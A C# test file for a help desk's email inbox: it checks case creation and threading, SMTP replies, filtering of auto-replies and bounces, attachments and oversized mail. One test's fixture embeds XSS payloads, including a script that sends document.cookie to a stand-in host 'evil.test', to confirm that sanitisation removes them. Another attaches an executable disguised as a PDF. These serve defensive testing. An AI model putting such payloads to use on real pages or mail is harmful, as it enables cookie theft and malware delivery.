using System.Net;
using System.Net.Http.Json;
using System.Text;
using MailKit;
using MimeKit;
using Workflows.Desk.Database;
using Workflows.Tests.Support;
using static Workflows.Tests.Support.EmailDesk;

namespace Workflows.Tests.Desk.Channels.Email;

/// <summary>
/// Mail customers send to the desk's mailbox, read from a real dovecot by the desk's IMAP reader: new mail opens a case,
/// replies find theirs, robots open nothing, HTML is neutralised, files are kept, and a mail over the limit is noted
/// rather than lost. The agent's answer leaves by SMTP threaded to the customer's mail. Cite: issue 20, part 2.
/// </summary>
[Collection(SoloHostCollection.Name)]
public sealed class EmailInboxTests(EmailDesk email) : IClassFixture<EmailDesk>
{
    private const string Cases = DeskTables.Cases, Receipts = DeskTables.EmailReceipts;

    [Fact]
    public async Task Receive_OpensAnEmailCase_ForAMailFromANewAddress_AndMarksItSeen()
    {
        var from = NewAddress("ada");
        var mail = Mail($"Ada Lovelace <{from}>", "Refund not received", "I paid 120 yuan on 2 December and the refund never arrived.");
        await email.Imap.DeliverAsync(mail);

        Assert.Equal("opened", await email.TakenAsync(mail.MessageId));
        var caseId = await CaseOfAsync(mail.MessageId);
        Assert.Equal("email", await email.ScalarAsync($"SELECT channel FROM {Cases} WHERE id = @id", ("id", caseId)));
        Assert.Equal("Refund not received", await email.ScalarAsync($"SELECT subject FROM {Cases} WHERE id = @id", ("id", caseId)));
        Assert.Contains("120 yuan", (string)(await email.ScalarAsync($"SELECT description FROM {Cases} WHERE id = @id", ("id", caseId)))!);
        Assert.Equal("Ada Lovelace", await email.ScalarAsync(
            $"SELECT c.name FROM {DeskTables.Customers} c JOIN {DeskTables.CustomerContacts} k ON k.customer_id = c.id WHERE k.channel = 'email' AND k.address = @a", ("a", from)));
        await SeenAsync(mail.MessageId);
    }

    [Fact]
    public async Task Receive_ContinuesTheCase_OfTheMailItAnswers()
    {
        var from = NewAddress();
        var first = Mail(from, "Card charged twice", "My card was charged twice for one order.");
        await email.Imap.DeliverAsync(first);
        await email.TakenAsync(first.MessageId);
        var again = Mail(from, "Re: Card charged twice", "Here is the order number: 88231.", inReplyTo: first.MessageId);
        await email.Imap.DeliverAsync(again);

        Assert.Equal("appended", await email.TakenAsync(again.MessageId));
        var caseId = await CaseOfAsync(first.MessageId);
        Assert.Equal(caseId, await CaseOfAsync(again.MessageId));
        Assert.Equal(1, await CasesOfAsync(from));
        Assert.Equal(1, await email.CountAsync($"SELECT count(*) FROM {DeskTables.CaseMessages} WHERE case_id = @id AND kind = 'reply' AND channel = 'email' AND body LIKE '%88231%'",
            ("id", caseId)));
    }

    [Fact]
    public async Task Reply_GoesOutThreadedToTheCustomersMail_AndTheirAnswerComesBackToTheCase()
    {
        var from = NewAddress();
        var first = Mail(from, "Points missing", "My points from last week are missing.");
        await email.Imap.DeliverAsync(first);
        await email.TakenAsync(first.MessageId);
        var caseId = await CaseOfAsync(first.MessageId);
        var number = (string)(await email.ScalarAsync($"SELECT number FROM {Cases} WHERE id = @id", ("id", caseId)))!;

        // The flow's notice is marked as one no person wrote, so the customer's auto-responder keeps quiet (RFC 3834).
        Assert.Equal("auto-generated", (await SentToAsync(from, number)).Headers["Auto-Submitted"]);

        var agent = await email.AgentAsync();
        var replied = await agent.PostAsJsonAsync($"/api/cases/{caseId}/replies", new { body = "We found your points and added them back." });
        Assert.Equal(HttpStatusCode.Created, replied.StatusCode);
        var sent = await SentToAsync(from, "We found your points");
        Assert.Equal(first.MessageId, sent.InReplyTo);
        Assert.Contains(first.MessageId, sent.References);
        Assert.Equal($"Re: Points missing [{number}]", sent.Subject);
        Assert.EndsWith("@workflows", sent.MessageId);
        Assert.Null(sent.Headers["Auto-Submitted"]); // an agent wrote this one

        // Their mail program answers our mail, under a subject of its own making.
        var answer = Mail(from, "AW: thanks", "Thank you, I see them now.", inReplyTo: sent.MessageId);
        await email.Imap.DeliverAsync(answer);
        Assert.Equal("appended", await email.TakenAsync(answer.MessageId));
        Assert.Equal(caseId, await CaseOfAsync(answer.MessageId));
    }

    [Fact]
    public async Task Receive_AReplyToAResolvedCase_OpensANewCase_ThatNamesTheOldOne()
    {
        var from = NewAddress();
        var first = Mail(from, "Refund", "Where is my refund?");
        await email.Imap.DeliverAsync(first);
        await email.TakenAsync(first.MessageId);
        var resolved = await CaseOfAsync(first.MessageId);
        var number = (string)(await email.ScalarAsync($"UPDATE {Cases} SET status = 'resolved' WHERE id = @id RETURNING number", ("id", resolved)))!;

        var later = Mail(from, "Re: Refund", "It happened again this month.", inReplyTo: first.MessageId);
        await email.Imap.DeliverAsync(later);
        Assert.Equal("opened", await email.TakenAsync(later.MessageId));
        var opened = await CaseOfAsync(later.MessageId);
        Assert.NotEqual(resolved, opened);
        Assert.Contains(number, (string)(await email.ScalarAsync($"SELECT description FROM {Cases} WHERE id = @id", ("id", opened)))!);
    }

    [Fact]
    public async Task Receive_ContinuesTheCaseNamedInTheSubject_OnlyForMailFromThatCustomer()
    {
        var from = NewAddress();
        var first = Mail(from, "Account frozen", "My account was frozen this morning.");
        await email.Imap.DeliverAsync(first);
        await email.TakenAsync(first.MessageId);
        var caseId = await CaseOfAsync(first.MessageId);
        var number = (string)(await email.ScalarAsync($"SELECT number FROM {Cases} WHERE id = @id", ("id", caseId)))!;

        var fresh = Mail(from, $"More about {number}", "I forgot to say: it is the card ending 4411.");
        await email.Imap.DeliverAsync(fresh);
        Assert.Equal("appended", await email.TakenAsync(fresh.MessageId));
        Assert.Equal(caseId, await CaseOfAsync(fresh.MessageId));

        // A stranger who knows the number opens a case of their own, never writes into this one.
        var stranger = Mail(NewAddress("stranger"), $"Re: [{number}]", "Please send the refund to my account instead.");
        await email.Imap.DeliverAsync(stranger);
        Assert.Equal("opened", await email.TakenAsync(stranger.MessageId));
        Assert.NotEqual(caseId, await CaseOfAsync(stranger.MessageId));
    }

    [Fact]
    public async Task Receive_AutoRepliesBouncesAndLoops_OpenNothing_AndAreNotReadAgain()
    {
        var robots = new List<MimeMessage>();
        MimeMessage Robot(string from, string subject, Action<MimeMessage>? shape = null)
        {
            var mail = Mail(from, subject, "I am out of the office until Monday.");
            shape?.Invoke(mail);
            robots.Add(mail);
            return mail;
        }
        Robot(NewAddress(), "Automatic reply: Points missing", m => m.Headers.Add("Auto-Submitted", "auto-replied"));
        Robot(NewAddress(), "Newsletter", m => m.Headers.Add("Precedence", "bulk"));
        Robot(NewAddress(), "Out of office", m => m.Headers.Add("Precedence", "auto_reply"));
        Robot(NewAddress(), "Away", m => m.Headers.Add("X-Autoreply", "yes"));
        Robot(NewAddress(), "Away too", m => m.Headers.Add("X-Autorespond", "Away"));
        Robot("MAILER-DAEMON@mx.customer.test", "Undelivered Mail Returned to Sender");
        Robot("postmaster@customer.test", "Delivery Status Notification (Failure)");
        Robot(NewAddress(), "Delivery report", m =>
        {
            var report = new Multipart("report") { new TextPart("plain") { Text = "Your message could not be delivered." } };
            report.ContentType.Parameters.Add("report-type", "delivery-status");
            m.Body = report;
        });
        Robot(SupportAddress, "About your case", m => m.Headers.Add("X-Loop", "support"));
        var person = Mail(NewAddress(), "Not a robot", "Auto-Submitted: no means a person wrote this.");
        person.Headers.Add("Auto-Submitted", "no");

        foreach (var mail in robots.Append(person)) await email.Imap.DeliverAsync(mail);
        foreach (var mail in robots)
        {
            Assert.StartsWith("ignored: ", await email.TakenAsync(mail.MessageId));
            Assert.Null(await MaybeCaseOfAsync(mail.MessageId));
            Assert.Equal(0, await CasesOfAsync(mail.From.Mailboxes.Single().Address));
            await SeenAsync(mail.MessageId);
        }
        Assert.Equal("opened", await email.TakenAsync(person.MessageId));
        Assert.Equal(1, await email.CountAsync($"SELECT count(*) FROM {Receipts} WHERE message_key = @k", ("k", robots[0].MessageId!)));
    }

    [Fact]
    public async Task Receive_NeutralisesScriptInHtmlMail_KeepingWhatTheCustomerWrote()
    {
        var mail = Mail(NewAddress(), "Charged twice", "");
        mail.Body = new TextPart("html")
        {
            Text = """
                <html><head><style>body{background:url(https://evil.test/track.png)}</style><script>fetch('https://evil.test/?c='+document.cookie)</script></head>
                <body><p>My card was <b>charged twice</b> for order 5521.</p><img src="x" onerror="alert('xss')">
                <a href="javascript:alert(1)">see the receipt</a><iframe src="https://evil.test/"></iframe><p>Thanks, Bo</p></body></html>
                """,
        };
        await email.Imap.DeliverAsync(mail);

        Assert.Equal("opened", await email.TakenAsync(mail.MessageId));
        var description = (string)(await email.ScalarAsync($"SELECT description FROM {Cases} WHERE id = @id", ("id", await CaseOfAsync(mail.MessageId))))!;
        Assert.Contains("My card was charged twice for order 5521.", description);
        Assert.Contains("see the receipt", description);
        Assert.Contains("Thanks, Bo", description);
        foreach (var active in new[] { "script", "fetch(", "cookie", "alert", "onerror", "javascript:", "<", "evil.test", "background" })
            Assert.DoesNotContain(active, description, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public async Task Receive_KeepsTheAttachments_AsFilesOnTheCase()
    {
        var png = new byte[] { 0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A }.Concat(Enumerable.Range(0, 500).Select(i => (byte)i)).ToArray();
        var exe = "MZ\0\u0090\0\u0003"u8.ToArray().Concat(new byte[300]).ToArray();
        var body = new BodyBuilder { TextBody = "The receipt and my notes are attached." };
        body.Attachments.Add("receipt.png", png, ContentType.Parse("image/png"));
        body.Attachments.Add("notes.txt", Encoding.UTF8.GetBytes("订单 5521，扣款两次。"), ContentType.Parse("text/plain; charset=utf-8"));
        body.Attachments.Add("invoice.pdf.exe", exe, ContentType.Parse("application/pdf")); // lies about its type
        var mail = Mail(NewAddress(), "Receipt attached", "");
        mail.Body = body.ToMessageBody();
        await email.Imap.DeliverAsync(mail);

        Assert.Equal("opened", await email.TakenAsync(mail.MessageId));
        var caseId = await CaseOfAsync(mail.MessageId);
        var agent = await email.AgentAsync();
        var files = new Dictionary<string, (string Type, byte[] Content)>();
        foreach (var (name, id) in await FilesAsync(caseId))
        {
            var download = await agent.GetAsync($"/api/cases/{caseId}/attachments/{id}");
            Assert.Equal(HttpStatusCode.OK, download.StatusCode);
            files[name] = (download.Content.Headers.ContentType!.MediaType!, await download.Content.ReadAsByteArrayAsync());
        }
        Assert.Equal(["invoice.pdf.exe", "notes.txt", "receipt.png"], files.Keys.Order());
        Assert.Equal("image/png", files["receipt.png"].Type);
        Assert.Equal(png, files["receipt.png"].Content);
        Assert.Equal("订单 5521，扣款两次。", Encoding.UTF8.GetString(files["notes.txt"].Content));
        Assert.Equal("application/octet-stream", files["invoice.pdf.exe"].Type);
        Assert.Equal(exe, files["invoice.pdf.exe"].Content);
        Assert.Equal(3, await email.CountAsync($"SELECT count(*) FROM {DeskTables.CaseMessages} WHERE case_id = @id AND kind = 'attachment' AND attachment_id IS NOT NULL",
            ("id", caseId)));
    }

    [Fact]
    public async Task Receive_AMailOverTheLimit_OpensACaseThatSaysSo_AndLeavesTheOriginalInTheMailbox()
    {
        var from = NewAddress();
        var body = new BodyBuilder { TextBody = "Scans of every statement since January." };
        body.Attachments.Add("scans.pdf", "%PDF-1.7\n"u8.ToArray().Concat(RandomBytes(8 * 1024 * 1024)).ToArray(), ContentType.Parse("application/pdf"));
        var mail = Mail(from, "Statements", "");
        mail.Body = body.ToMessageBody(); // about 11 MB once encoded: over the 10 MiB default
        await email.Imap.DeliverAsync(mail);

        Assert.Equal("opened", await email.TakenAsync(mail.MessageId, seconds: 60));
        var caseId = await CaseOfAsync(mail.MessageId);
        Assert.Equal("Statements", await email.ScalarAsync($"SELECT subject FROM {Cases} WHERE id = @id", ("id", caseId)));
        var description = (string)(await email.ScalarAsync($"SELECT description FROM {Cases} WHERE id = @id", ("id", caseId)))!;
        Assert.Contains("mail too large", description);
        Assert.Contains("INBOX", description);
        Assert.Empty(await FilesAsync(caseId));
        await SeenAsync(mail.MessageId); // still there, read
    }

    /// <summary>The case the mail opened or joined; null for one that opened nothing.</summary>
    private async Task<Guid?> MaybeCaseOfAsync(string? messageKey) =>
        await email.ScalarAsync($"SELECT case_id FROM {Receipts} WHERE message_key = @k", ("k", messageKey!)) as Guid?;

    private async Task<Guid> CaseOfAsync(string? messageKey) => await MaybeCaseOfAsync(messageKey) ?? throw new InvalidOperationException($"Mail {messageKey} has no case.");

    private Task<long> CasesOfAsync(string address) => email.CountAsync(
        $"SELECT count(*) FROM {Cases} c JOIN {DeskTables.CustomerContacts} k ON k.customer_id = c.customer_id WHERE k.channel = 'email' AND k.address = @a",
        ("a", address.ToLowerInvariant()));

    private async Task<List<(string Name, Guid Id)>> FilesAsync(Guid caseId)
    {
        await using var connection = new Npgsql.NpgsqlConnection(email.Desk.ConnectionString);
        await connection.OpenAsync();
        await using var command = new Npgsql.NpgsqlCommand($"SELECT file_name, id FROM {DeskTables.Attachments} WHERE case_id = @id", connection);
        command.Parameters.AddWithValue("id", caseId);
        await using var reader = await command.ExecuteReaderAsync();
        var files = new List<(string, Guid)>();
        while (await reader.ReadAsync()) files.Add((reader.GetString(0), reader.GetGuid(1)));
        return files;
    }

    /// <summary>\Seen follows the commit by a moment: waits for it.</summary>
    private async Task SeenAsync(string? messageId)
    {
        for (var waited = 0; waited < 10_000; waited += 200)
        {
            if ((await email.Imap.FlagsOfAsync(messageId!))?.HasFlag(MessageFlags.Seen) == true) return;
            await Task.Delay(200);
        }
        Assert.Fail($"Mail {messageId} was not marked \\Seen (flags: {await email.Imap.FlagsOfAsync(messageId!)}).");
    }

    private async Task<MimeMessage> SentToAsync(string address, string saying)
    {
        for (var waited = 0; waited < 20_000; waited += 200)
        {
            (string From, List<string> To, string Data)[] mails;
            lock (email.Smtp.Mails) mails = [.. email.Smtp.Mails];
            if (mails.FirstOrDefault(m => m.To.Any(t => t.Contains(address, StringComparison.OrdinalIgnoreCase)) && m.Data.Contains(saying)) is { Data: not null } found)
                return await MimeMessage.LoadAsync(new MemoryStream(Encoding.UTF8.GetBytes(found.Data)));
            await Task.Delay(200);
        }
        throw new TimeoutException($"No mail to {address} saying '{saying}' reached the SMTP server.");
    }

    private static byte[] RandomBytes(int count)
    {
        var bytes = new byte[count];
        Random.Shared.NextBytes(bytes);
        return bytes;
    }
}
